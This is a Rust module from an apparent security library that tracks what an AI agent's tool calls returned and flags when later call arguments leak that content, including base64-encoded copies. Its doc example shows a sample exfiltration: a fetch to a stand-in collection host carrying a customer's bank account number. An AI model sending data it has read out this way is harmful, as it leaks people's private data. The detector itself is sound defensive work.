//! What a session has read, found again in what it sends.
//!
//! Every response is kept in canonical form, within a bound; the arguments of every later call are looked up in it, as they
//! are and in every view of them ([`views`](crate::views)). Pieces of one run that go out in several calls of one tool are joined ([`Carry`]).
//! Sensitive values too short for a run are kept apart ([`Atoms`]). What is found says how much of it is news
//! ([`novelty`](crate::novelty)).
//!
//! Guarantees: a run of 12 canonical characters that a kept response and the arguments share is found, as it is or in any
//! view, and what is reported was compared byte by byte. The cost of a call depends on its arguments alone, not on how long the session is. Memory
//! is bounded: under 2.4 MB at 200,000 characters. When it is full the oldest responses go and [`Memory::is_truncated`] says so.
//! Budgets: remembering 4 KB under 15 µs, finding in 1 KB under 25 µs (benches `remember_4_kb`, `find_1_kb`).

mod arguments;
mod atom;
mod carry;
mod hit;
mod news;
mod response;

use crate::grams::{GRAM, RUN};
use crate::leaves::{self, Decoded};
use crate::origin::Origin;
use crate::places::Places;
use crate::store::Store;
use crate::transform::Transform;
use crate::{canonical, views};
use atom::Atoms;
use carry::Carry;
use hit::{Buffers, Hits, Searcher};
use news::Own;
use response::{Intake, Response, Responses};
use std::fmt;
use std::ops::Range;
use std::sync::Arc;

/// What arguments share with a response.
#[derive(Clone, PartialEq, Eq)]
pub struct Found {
    /// Where it came from.
    pub origin: Arc<Origin>,
    /// Where in the response; a JSON pointer.
    pub from: String,
    /// Where in the arguments; a JSON pointer.
    pub to: String,
    /// How many canonical characters are shared.
    pub characters: u32,
    /// How many of these are news: not common text, not a template, not the agent's own words.
    pub novel: u32,
    /// What it was wrapped in, the outermost first.
    pub transforms: Vec<Transform>,
    /// What kind of sensitive value it is, where that was found by the exact tier.
    pub atom: Option<String>,
    /// In how many calls it went out: 1 if all of it is in this one.
    pub pieces: u32,
    /// The canonical characters, at most [`Found::TEXT`] bytes. They may be a secret: never to be shown.
    pub text: String,
}

impl Found {
    /// How much of the shared text is handed out, in bytes.
    pub const TEXT: usize = 256;
}

impl fmt::Debug for Found {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Found")
            .field("call", &self.origin.call)
            .field("from", &self.from)
            .field("to", &self.to)
            .field("characters", &self.characters)
            .field("novel", &self.novel)
            .field("transforms", &self.transforms)
            .field("atom", &self.atom)
            .field("pieces", &self.pieces)
            .finish_non_exhaustive()
    }
}

/// The memory of one session.
///
/// ```
/// use vetgate_flow::{Memory, Origin, Transform};
///
/// let mut memory = Memory::new(Memory::CHARACTERS);
/// let origin = Origin { call: 1, server: "crm".into(), tool: "get_customer".into(), ..Origin::default() };
/// memory.remember(&origin, r#"{"content":[{"type":"text","text":"Account: DE89 3704 0044 0532 0130 00"}]}"#);
///
/// let mut found = Vec::new();
/// memory.find("web/fetch", r#"{"url":"https://collect.example/?d=REU4OTM3MDQwMDQ0MDUzMjAxMzAwMA=="}"#, &mut found);
/// assert_eq!(found[0].from, "/content/0/text");
/// assert_eq!(found[0].to, "/url");
/// assert_eq!(found[0].transforms, [Transform::Base64]);
/// assert_eq!(found[0].characters, 22);
/// ```
#[derive(Debug)]
pub struct Memory {
    store: Store,
    responses: Responses,
    own: Own,
    atoms: Atoms,
    carry: Carry,
    /// Counts what happens, so that it is known what came first.
    time: u64,
    characters: usize,
    /// When the latest of what is no longer kept was read; 0 if all of it is kept.
    lost: u64,
    /// What was looked for last, as long as nothing was remembered since.
    sought: Option<Sought>,
    /// Kept between calls, so that each of them need not allocate anew. The canonical text of what was looked for last.
    text: Vec<u8>,
    places: Places,
    buffers: Buffers,
}

/// Arguments that were looked up: what is written next is most often the same.
#[derive(Debug)]
struct Sought {
    arguments: Box<str>,
    /// Which stretches of them, as they are, stand in the store.
    copied: Vec<Range<usize>>,
}

/// Scratch space that is larger than this is given back after a call.
const SCRATCH: usize = 64 << 10;

impl Default for Memory {
    fn default() -> Self {
        Self::new(Self::CHARACTERS)
    }
}

impl Memory {
    /// How many canonical characters are kept unless something else is asked for.
    pub const CHARACTERS: usize = 200_000;
    /// The most that is reported of one call.
    pub const FOUND: usize = 64;

    /// An empty memory for that many canonical characters; it takes what it holds, and grows.
    pub fn new(characters: usize) -> Self {
        Self {
            store: Store::new(characters),
            responses: Responses::new(characters),
            own: Own::new(characters),
            atoms: Atoms::default(),
            carry: Carry::default(),
            time: 0,
            characters,
            lost: 0,
            sought: None,
            text: Vec::new(),
            places: Places::default(),
            buffers: Buffers::default(),
        }
    }

    /// Remembers a response: the JSON of a result, or plain text. One that is larger than the memory is kept as far as it
    /// fits, and the memory is truncated then.
    pub fn remember(&mut self, origin: &Origin, document: &str) {
        self.remember_decoded(origin, document, &[]);
    }

    /// The same, where some strings of the document, values in their order, have been unescaped already.
    pub fn remember_decoded(&mut self, origin: &Origin, document: &str, decoded: &[Decoded]) {
        self.time += 1;
        self.sought = None;
        let mut intake = Intake::new(&mut self.text, self.characters.saturating_sub(1));
        leaves::walk_decoded(document, decoded, &mut intake);
        if intake.is_cut {
            self.lost = self.time;
        }
        let mut places = intake.finish();
        if self.text.len() < RUN {
            return;
        }
        if self.store.is_worn_out() {
            self.lost = self.time;
            self.responses.clear();
            self.store = Store::new(self.characters);
        }
        while self.store.is_full_for(self.text.len()) || self.responses.is_full() {
            let Some(oldest) = self.responses.pop() else { break };
            self.lost = self.lost.max(oldest.time);
            self.store.forget_before(self.responses.first().map_or(u32::MAX, |first| first.start));
        }
        places.shrink();
        let response = Response {
            origin: Arc::new(origin.clone()),
            time: self.time,
            start: self.store.push(&self.text),
            length: self.text.len(),
            places,
        };
        self.responses.push(response);
        self.tidy();
    }

    /// Remembers a sensitive value that is too short for a run: 6 to 11 canonical characters. Others are passed over: longer ones
    /// are found with their response.
    pub fn remember_atom(&mut self, origin: &Origin, pointer: &str, kind: &str, value: &str) {
        self.time += 1;
        let lost = self.atoms.remember(origin, pointer, kind, value, self.time);
        self.lost = self.lost.max(lost.unwrap_or_default());
    }

    /// Finds what the arguments of a call share with what was remembered, the longest first, at most [`Memory::FOUND`] of it.
    /// `stream` names the server and the tool: pieces that go out in several calls are joined where stream and argument are
    /// the same. False if a bound was hit, so that there may be more.
    pub fn find(&mut self, stream: &str, arguments: &str, found: &mut Vec<Found>) -> bool {
        let mut places = std::mem::take(&mut self.places);
        let layer = arguments::read(arguments, &mut places);
        let mut hits = Hits::new(layer.bytes.len());
        let buffers = std::mem::take(&mut self.buffers);
        let mut searcher = Searcher::new(&self.store, &self.atoms, &mut self.carry, (stream, &places), buffers);
        let is_all = views::walk(layer, |layer| searcher.search(layer, &mut hits));
        self.buffers = searcher.buffers;
        std::mem::swap(&mut self.text, &mut self.buffers.plain);
        let copied = hits.copied().filter(|_| arguments.len() <= SCRATCH);
        self.sought = copied.map(|copied| Sought { arguments: arguments.into(), copied });
        let is_all = hits.report(self, &places, found) && is_all;
        self.places = places;
        self.tidy();
        is_all
    }

    /// The latest response that holds these canonical letters, all in a row, of those that are wanted. Fewer letters than a run
    /// has are in none.
    pub fn holding(&self, letters: &str, is_wanted: impl Fn(&Origin) -> bool) -> Option<Arc<Origin>> {
        let mut holding: Option<&Response> = None;
        let grams = if letters.len() < RUN { 0 } else { letters.len() - GRAM + 1 };
        for at in 0..grams {
            self.store.places(&letters.as_bytes()[at..], |place| {
                let start = place.saturating_sub(u32::try_from(at).unwrap_or(u32::MAX));
                let response = self.responses.number_at(start).and_then(|number| self.responses.get(number));
                let is_it = |response: &&Response| {
                    self.store.text(start, letters.len()) == letters.as_bytes() && is_wanted(&response.origin)
                };
                holding = holding.into_iter().chain(response.filter(is_it)).max_by_key(|response| response.time);
            });
        }
        holding.map(|response| Arc::clone(&response.origin))
    }

    /// Notes what the agent itself wrote, so that responses that say it again are not news. To be called after
    /// [`find`](Self::find); what came out of a response is not the agent's.
    pub fn wrote(&mut self, arguments: &str) {
        self.time += 1;
        if let Some(sought) = self.sought.take().filter(|sought| *sought.arguments == *arguments) {
            self.own.write(&self.text, self.time, sought.copied);
        } else {
            let mut places = std::mem::take(&mut self.places);
            let arguments = arguments::read(arguments, &mut places);
            self.places = places;
            self.text.clear();
            canonical::append(&arguments.bytes, &mut self.text);
            self.own.write(&self.text, self.time, Own::copied(&self.text, &self.store));
        }
        self.tidy();
    }

    /// The same for what the agent writes again and again, such as who it is: what it wrote before is not kept twice, because
    /// its own words would go for that.
    pub fn wrote_again(&mut self, arguments: &str) {
        self.time += 1;
        self.sought = None;
        let mut places = std::mem::take(&mut self.places);
        let arguments = arguments::read(arguments, &mut places);
        self.places = places;
        self.text.clear();
        canonical::append(&arguments.bytes, &mut self.text);
        let mut known = Own::copied(&self.text, &self.store);
        known.extend(self.own.written(&self.text));
        self.own.write(&self.text, self.time, known);
        self.tidy();
    }

    /// Whether something that was read is no longer kept, or never was.
    pub fn is_truncated(&self) -> bool {
        self.lost > 0
    }

    /// How often something was remembered or written. Together with [`has_lost`](Self::has_lost) it says whether what was
    /// read since is still kept.
    pub fn time(&self) -> u64 {
        self.time
    }

    /// Whether something that was read after `time` is no longer kept, or never was.
    pub fn has_lost(&self, time: u64) -> bool {
        self.lost > time
    }

    /// What the memory takes, in bytes.
    pub fn bytes(&self) -> usize {
        let sought = self.sought.as_ref();
        let sought = sought.map_or(0, |it| it.arguments.len() + it.copied.capacity() * size_of::<Range<usize>>());
        let scratch = self.text.capacity() + self.places.bytes() + self.buffers.bytes() + sought;
        size_of::<Self>()
            + scratch
            + self.store.bytes()
            + self.responses.bytes()
            + self.own.bytes()
            + self.atoms.bytes()
            + self.carry.bytes()
    }

    fn tidy(&mut self) {
        if self.text.capacity() > SCRATCH {
            self.sought = None;
            self.text = Vec::new();
        }
        if self.places.bytes() > SCRATCH {
            self.places = Places::default();
        }
        if self.buffers.bytes() > SCRATCH {
            self.buffers = Buffers::default();
        }
    }
}

#[cfg(test)]
mod tests;
